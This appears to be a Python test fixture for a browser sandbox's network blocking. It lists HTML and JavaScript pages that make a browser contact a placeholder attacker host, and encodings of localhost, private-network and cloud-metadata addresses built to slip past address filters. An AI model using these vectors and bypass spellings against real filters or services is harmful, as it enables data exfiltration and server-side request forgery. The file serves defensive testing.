"""Ways in which a page makes a browser open a connection; ``@`` is the place to reach, ``\\\\@`` the sign."""

# A page of an attack stands in one line, where it fits.
# ruff: noqa: E501, RUF001

from typing import NamedTuple

from tests.services.browser.attacks.internet import EVIL_ADDRESS, EVIL_ADDRESS_6

#: A page that shows that its script ran to the end, whatever became of its requests.
_TRIED = (
    "<p id=mark>loading</p><script>{script}\ndocument.getElementById('mark').textContent = 'tried';</script>"
)


def _script(text: str) -> str:
    return _TRIED.format(script=text)


def _markup(text: str) -> str:
    return text + _script("")


_WORKER = "new Worker(URL.createObjectURL(new Blob([{code!r}], {{type: 'text/javascript'}})))"
_SHARED = "new SharedWorker(URL.createObjectURL(new Blob([{code!r}], {{type: 'text/javascript'}})))"

#: What a page does by itself, without a click.
PAGES = {
    "image": _markup("<img src='http://@/hit'>"),
    "image of a set": _markup("<img srcset='http://@/hit 1x'>"),
    "lazy image in view": _markup("<img loading=lazy src='http://@/hit'>"),
    "icon": _markup("<link rel=icon href='http://@/hit'><img src='http://@/hit'>"),
    "svg image": _markup("<svg><image href='http://@/hit' width=9 height=9></svg>"),
    "svg use of a filter": _markup("<svg><feImage href='http://@/hit'/><image href='http://@/hit'/></svg>"),
    "style sheet": _markup("<link rel=stylesheet href='http://@/hit'>"),
    "import in a style": _markup("<style>\\@import 'http://@/hit';</style>"),
    "background": _markup("<div style='background:url(http://@/hit)'>x</div>"),
    "font": _markup(
        "<style>\\@font-face{font-family:f;src:url(http://@/hit)} p{font-family:f}</style><p>text in it</p>"
    ),
    "script": _markup("<script src='http://@/hit'></script>"),
    "module": _markup("<script type=module>import('http://@/hit').catch(() => 0)</script>"),
    "frame": _markup("<iframe src='http://@/hit'></iframe>"),
    "frame in a frame": _markup("<iframe srcdoc='<iframe src=http://@/hit></iframe>'></iframe>"),
    "sandboxed frame": _markup("<iframe sandbox='allow-scripts' src='http://@/hit'></iframe>"),
    "object": _markup("<object data='http://@/hit' type='text/html'></object>"),
    "embed": _markup("<embed src='http://@/hit' type='text/html'>"),
    "video": _markup("<video src='http://@/hit' autoplay muted></video>"),
    "audio": _markup("<audio src='http://@/hit' preload=auto></audio>"),
    "track of a video": _markup(
        "<video autoplay muted crossorigin><track default src='http://@/hit'></video>"
        "<script>document.querySelector('track').track.mode = 'showing'</script>"
    ),
    "preload": _markup("<link rel=preload as=image href='http://@/hit'>"),
    "prefetch": _markup("<link rel=prefetch href='http://@/hit'><img src='http://@/hit'>"),
    "module preload": _markup("<link rel=modulepreload href='http://@/hit'>"),
    "preconnect": _markup(
        "<link rel=preconnect href='http://@/'><link rel=dns-prefetch href='http://@/'>"
        "<link rel=preconnect href='http://@/' crossorigin><script>fetch('http://@/hit').catch(() => 0)</script>"
    ),
    "speculation": _markup(
        '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://@/hit"]}],'
        '"prerender":[{"source":"list","urls":["http://@/hit"]}]}</script><img src="http://@/hit">'
    ),
    "manifest": _markup("<link rel=manifest href='http://@/hit'><img src='http://@/hit'>"),
    "fetch": _script("fetch('http://@/hit').catch(() => 0);"),
    "fetch without cors": _script(
        "fetch('http://@/hit', {mode: 'no-cors', method: 'POST', body: 'x'}).catch(() => 0);"
    ),
    "fetch that lives on": _script(
        "fetch('http://@/hit', {keepalive: true, mode: 'no-cors'}).catch(() => 0);"
    ),
    "xhr": _script("const x = new XMLHttpRequest(); x.open('GET', 'http://@/hit'); x.send();"),
    "beacon": _script("navigator.sendBeacon('http://@/hit', 'x');"),
    "event source": _script("new EventSource('http://@/hit');"),
    "web socket": _script("new WebSocket('ws://@/hit');"),
    "worker": _script(_WORKER.format(code="fetch('http://@/hit')")),
    "script of a worker": _script(_WORKER.format(code="importScripts('http://@/hit')")),
    "socket of a worker": _script(_WORKER.format(code="new WebSocket('ws://@/hit')")),
    "worker in a worker": _script(_WORKER.format(code=_WORKER.format(code="fetch(`http://@/hit`)"))),
    "shared worker": _script(_SHARED.format(code="fetch('http://@/hit')")),
    "report of a policy": (
        "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'\">"
        + _markup("<iframe src='http://@/hit'></iframe>")
    ),
    "ping of a link": _script(
        "const a = document.createElement('a'); a.href = '#x'; a.ping = 'http://@/hit';"
        "document.body.append(a); a.click(); fetch('http://@/hit').catch(() => 0);"
    ),
    "portal by object url": _script(
        "const f = document.createElement('iframe');"
        "f.src = URL.createObjectURL(new Blob(['<img src=http://@/hit>'], {type: 'text/html'}));"
        "document.body.append(f);"
    ),
    "data frame": _markup(
        "<iframe src='data:text/html,<img src=http://@/hit>'></iframe><img src='http://@/hit'>"
    ),
    "form in a frame": _script(
        "document.body.insertAdjacentHTML('beforeend', '<iframe name=n></iframe>"
        "<form id=f method=post target=n action=http://@/hit><input name=a value=b></form>');"
        "document.getElementById('f').submit();"
    ),
    "new window": _script("window.open('http://@/hit');"),
    "form in a new window": _script(
        "document.body.insertAdjacentHTML('beforeend',"
        " '<form id=f method=post target=_blank action=http://@/hit><input name=a value=b></form>');"
        "document.getElementById('f').submit();"
    ),
    "style of a link header": _markup("<p>the header asks for it</p>"),
}
#: A page that goes elsewhere by itself.
MOVES = {
    "meta refresh": "<meta http-equiv=refresh content='0;url=http://@/hit'>",
    "location": "<script>location = 'http://@/hit'</script>",
    "location replaced": "<script>location.replace('http://@/hit')</script>",
    "location after a while": "<script>setTimeout(() => { location.href = 'http://@/hit' }, 150)</script>",
    "parent's location": "<iframe srcdoc='<script>top.location = \"http://@/hit\"</script>'></iframe>",
    "form of a script": "<form method=post action='http://@/hit'><input name=a></form><script>document.forms[0].submit()</script>",
    "clicked link of a script": "<a id=a href='http://@/hit'>x</a><script>document.getElementById('a').click()</script>",
    "navigation api": "<script>navigation.navigate('http://@/hit')</script>",
}
REDIRECTS = (301, 302, 303, 307, 308)


class Spelling(NamedTuple):
    """One host, written so that a filter of texts does not see it, with a place of the same spelling that is open."""

    blocked: str
    #: '': nothing of this kind is ever open.
    open: str = ""


def _number(address: str) -> int:
    return int.from_bytes(bytes(map(int, address.split("."))))


_FIRST, _SECOND, _THIRD, _LAST = EVIL_ADDRESS.split(".")
#: ``#``: the port of the canary, or of the site.
SPELLINGS = {
    "plain": Spelling("127.0.0.1:#", EVIL_ADDRESS),
    "decimal": Spelling("2130706433:#", str(_number(EVIL_ADDRESS))),
    "hexadecimal": Spelling("0x7f000001:#", hex(_number(EVIL_ADDRESS))),
    "octal": Spelling("0177.0.0.01:#", f"0{int(_FIRST):o}.{_SECOND}.{_THIRD}.0{int(_LAST):o}"),
    "mixed": Spelling("0x7f.1:#", f"0x{int(_FIRST):x}.{_number(f'0.{_SECOND}.{_THIRD}.{_LAST}')}"),
    "short": Spelling("127.1:#", f"{_FIRST}.{_number(f'0.{_SECOND}.{_THIRD}.{_LAST}')}"),
    "full width": Spelling("１２７.０.０.１:#", f"１５１.{_SECOND}.{_THIRD}.{_LAST}"),
    "other dots": Spelling("127。0。0。1:#", EVIL_ADDRESS.replace(".", "。")),
    "escaped": Spelling("%31%32%37.0.0.1:#", f"%31%35%31.{_SECOND}.{_THIRD}.{_LAST}"),
    "dot at the end": Spelling("127.0.0.1.:#", f"{EVIL_ADDRESS}."),
    "zero": Spelling("0.0.0.0:#"),
    "other loopback": Spelling("127.8.9.10:#"),
    "ipv6 loopback": Spelling("[::1]:#", f"[{EVIL_ADDRESS_6}]"),
    "ipv6 none": Spelling("[::]:#"),
    "ipv6 mapped": Spelling("[::ffff:127.0.0.1]:#", f"[::ffff:{EVIL_ADDRESS}]"),
    "ipv6 mapped in hex": Spelling("[::ffff:7f00:1]:#"),
    "ipv6 compatible": Spelling("[::127.0.0.1]:#"),
    "ipv6 nat64": Spelling("[64:ff9b::127.0.0.1]:#"),
    "ipv6 6to4": Spelling("[2002:7f00:1::]:#"),
    "localhost": Spelling("localhost:#"),
    "localhost in capitals": Spelling("LOCALHOST:#"),
    "localhost with a dot": Spelling("localhost.:#"),
    "below localhost": Spelling("x.localhost:#", "x.localhost:open"),
    "link local": Spelling("169.254.169.254"),
    "metadata by name": Spelling("metadata.google.internal"),
    "private network": Spelling("10.0.0.1:#"),
    "router": Spelling("192.168.1.1"),
    "name of the home network": Spelling("nas.local:#"),
    "a name that leads here": Spelling("trap.example:#", "evil.example"),
    "a name that leads here in ipv6": Spelling("trap6.example:#", "evil.example"),
    "a name with a good and a bad address": Spelling("both.example:#", "evil.example"),
}
